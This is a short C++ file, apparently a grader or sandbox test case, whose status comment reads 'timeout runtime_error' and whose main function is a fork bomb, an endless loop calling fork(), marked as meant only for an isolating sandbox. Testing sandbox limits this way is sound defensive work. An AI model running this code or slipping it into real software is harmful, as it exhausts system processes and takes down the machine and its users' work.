// status: timeout runtime_error
// Starts processes that start processes. To be run in a sandbox that isolates, only.
#include "answer.hpp"

int main() {
    for (;;) fork();
}
